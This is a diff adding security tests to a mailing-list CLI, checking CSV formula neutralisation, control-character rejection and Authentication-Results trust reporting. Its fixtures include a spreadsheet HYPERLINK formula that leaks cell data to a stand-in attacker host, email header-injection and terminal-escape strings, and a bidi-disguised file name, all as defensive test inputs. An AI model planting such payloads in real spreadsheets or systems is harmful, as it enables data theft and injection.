@@ -281,6 +281,129 @@ def test_export_round_trips_through_import(eng, run_cli, tmp_path) -> None:  # t
     ]
 
 
+# ------------------------------------------------- spreadsheet safety (issue 12 item 7)
+
+FORMULA_MEMBERS = [
+    # (email, name, department) as an admin typed them
+    ("a@corp.example", '=HYPERLINK("http://evil.example/?x="&A1;"click")', "+SUM(1;2)"),
+    ("b@corp.example", "@cmd", "-2+3"),
+    ("=c@corp.example", "'=already quoted", "Sales"),
+    ("d@corp.example", "O'Brien, Ann", "R&D"),
+]
+
+
+def test_export_neutralises_formula_cells_and_round_trips(eng, run_cli, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    for email, name, department in FORMULA_MEMBERS:
+        added = eng("members", "add", "eng", email, "--name", name, "--department", department)
+        assert added.exit_code == 0, added.stderr
+    exported = eng("members", "export", "eng")
+    assert exported.exit_code == 0, exported.stderr
+    rows = list(csv.reader(io.StringIO(exported.stdout)))
+    assert [r[:2] + r[3:4] for r in rows[1:]] == [
+        ["a@corp.example", '\'=HYPERLINK("http://evil.example/?x="&A1;"click")', "'+SUM(1;2)"],
+        ["b@corp.example", "'@cmd", "'-2+3"],
+        ["'=c@corp.example", "''=already quoted", "Sales"],
+        ["d@corp.example", "O'Brien, Ann", "R&D"],
+    ]
+    for row in rows:
+        for cell in row:
+            assert cell.lstrip()[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
+
+    # The quote is only a spreadsheet's armour: importing the export changes nobody.
+    run_cli("lists", "create", "copy")
+    path = tmp_path / "export.csv"
+    path.write_text(exported.stdout)
+    report = as_json(run_cli("members", "import", "copy", str(path), "--json"))
+    assert (report["added"], report["updated"], report["skipped"]) == (4, 0, [])
+    for email, name, department in FORMULA_MEMBERS:
+        person = as_json(run_cli("people", "show", email, "--json"))
+        assert (person["name"], person["department"]) == (name, department)
+        assert [m["list"] for m in person["memberships"]] == ["eng", "copy"]
+
+
+def test_export_neutralises_cells_stored_before_the_import_check(  # type: ignore[no-untyped-def]
+    eng, session_factory
+) -> None:
+    from sqlalchemy import update
+
+    from mailgate.models import Person
+
+    names = {
+        "tab@corp.example": ("\t=1+1", "  =2+2"),
+        "cr@corp.example": ("\r@SUM(A1)", "\u00a0-3"),
+    }
+    for email in names:
+        assert eng("members", "add", "eng", email).exit_code == 0
+    from mailgate import directory
+
+    with session_factory() as s, s.begin():
+        for email, (name, department) in names.items():
+            pid = directory.get_person(s, email).id
+            s.execute(
+                update(Person).where(Person.id == pid).values(name=name, department=department)
+            )
+    rows = list(csv.DictReader(io.StringIO(eng("members", "export", "eng").stdout)))
+    assert [(r["name"], r["department"]) for r in rows] == [
+        ("'\t=1+1", "'  =2+2"),
+        ("'\r@SUM(A1)", "'\u00a0-3"),
+    ]
+
+
+def test_import_refuses_control_characters_in_names_and_departments(eng, tmp_path) -> None:  # type: ignore[no-untyped-def]
+    out = io.StringIO()  # CRLF rows, as a spreadsheet writes them: CR and LF are quoted
+    csv.writer(out, lineterminator="\r\n").writerows(
+        [
+            ["email", "name", "timezone", "department"],
+            ["ok@corp.example", "Ok Person", "", "Sales"],
+            ["nl@corp.example", "Ann\nIT SECURITY: send your password", "", ""],
+            ["cr@corp.example", "Ann\rEvil", "", ""],
+            ["tab@corp.example", "Ann\tEvil", "", ""],
+            ["esc@corp.example", "Ann", "", "Sales\x1b[31m"],
+            ["del@corp.example", "Ann\x7f", "", ""],
+            ["c1@corp.example", "Ann\x85Evil", "", ""],
+            ["ls@corp.example", "Ann\u2028Evil", "", ""],
+            ["bidi@corp.example", "Ann \u202egnp.exe", "", ""],
+            ["fine@corp.example", "Zoë Ångström-Łukasz", "", "Forschung & Entwicklung"],
+        ]
+    )
+    path = tmp_path / "people.csv"
+    path.write_bytes(out.getvalue().encode())
+    report = as_json(eng("members", "import", "eng", str(path), "--json"))
+    assert (report["added"], report["updated"]) == (2, 0)
+    reasons = {s["line"]: s["reason"] for s in report["skipped"]}
+    assert reasons == {
+        3: "name contains a control character (U+000A); use one line of plain text",
+        5: "name contains a control character (U+000D); use one line of plain text",
+        6: "name contains a control character (U+0009); use one line of plain text",
+        7: "department contains a control character (U+001B); use one line of plain text",
+        8: "name contains a control character (U+007F); use one line of plain text",
+        9: "name contains a control character (U+0085); use one line of plain text",
+        10: "name contains a control character (U+2028); use one line of plain text",
+        11: "name contains a control character (U+202E); use one line of plain text",
+    }
+    members = as_json(eng("members", "show", "eng", "--json"))
+    assert sorted(m["email"] for m in members) == ["fine@corp.example", "ok@corp.example"]
+
+    text = eng("members", "import", "eng", str(path))
+    assert "line 3: name contains a control character (U+000A)" in text.stdout
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ("members", "add", "eng", "x@corp.example", "--name", "Ann\nEvil"),
+        ("members", "add", "eng", "x@corp.example", "--department", "Sales\r\nBcc: x"),
+        ("people", "update", "ok@corp.example", "--name", "\x1b[2JAnn"),
+    ],
+)
+def test_admin_commands_refuse_control_characters_in_names(eng, args) -> None:  # type: ignore[no-untyped-def]
+    assert eng("members", "add", "eng", "ok@corp.example", "--name", "Ok").exit_code == 0
+    result = eng(*args)
+    assert result.exit_code == 1
+    assert "contains a control character" in result.stderr
+    assert as_json(eng("people", "show", "ok@corp.example", "--json"))["name"] == "Ok"
+
+
 def test_config_masks_secrets(run_cli, mailgate_env) -> None:  # type: ignore[no-untyped-def]
     mailgate_env["MAILGATE_RELAY_URL"] = "smtp://relay:hunter2pass@127.0.0.1:2526"
     shown = as_json(run_cli("config", "--json"))
@@ -290,6 +413,26 @@ def test_config_masks_secrets(run_cli, mailgate_env) -> None:  # type: ignore[no
     assert shown["domain"] == "lists.corp.example"
     text = run_cli("config")
     assert mailgate_env["MAILGATE_SECRET_KEY"] not in text.stdout
+
+
+def test_config_says_whose_authentication_results_count(run_cli, mailgate_env) -> None:  # type: ignore[no-untyped-def]
+    """Issue 12 item 14: with nothing configured, no A-R counts, and `config` says so."""
+    text = run_cli("config")
+    assert text.exit_code == 0
+    flat = " ".join(text.stdout.split())
+    assert "Authentication-Results: not trusted from any peer" in flat
+    assert "only a valid DKIM signature authenticates a post" in flat
+    shown = as_json(run_cli("config", "--json"))
+    assert shown["authres_relays"] == "" and shown["authserv_ids"] == ""
+    assert shown["authentication_results"].startswith("not trusted from any peer")
+
+    mailgate_env["MAILGATE_AUTHRES_RELAYS"] = "10.20.0.25/32"
+    mailgate_env["MAILGATE_AUTHSERV_IDS"] = "mx.corp.example"
+    shown = as_json(run_cli("config", "--json"))
+    assert shown["authres_relays"] == "10.20.0.25/32"
+    assert shown["authentication_results"].startswith(
+        "trusted only from 10.20.0.25/32 with authserv-id mx.corp.example"
+    )
 
 
 def test_bad_setting_is_one_line(run_cli, mailgate_env) -> None:  # type: ignore[no-untyped-def]
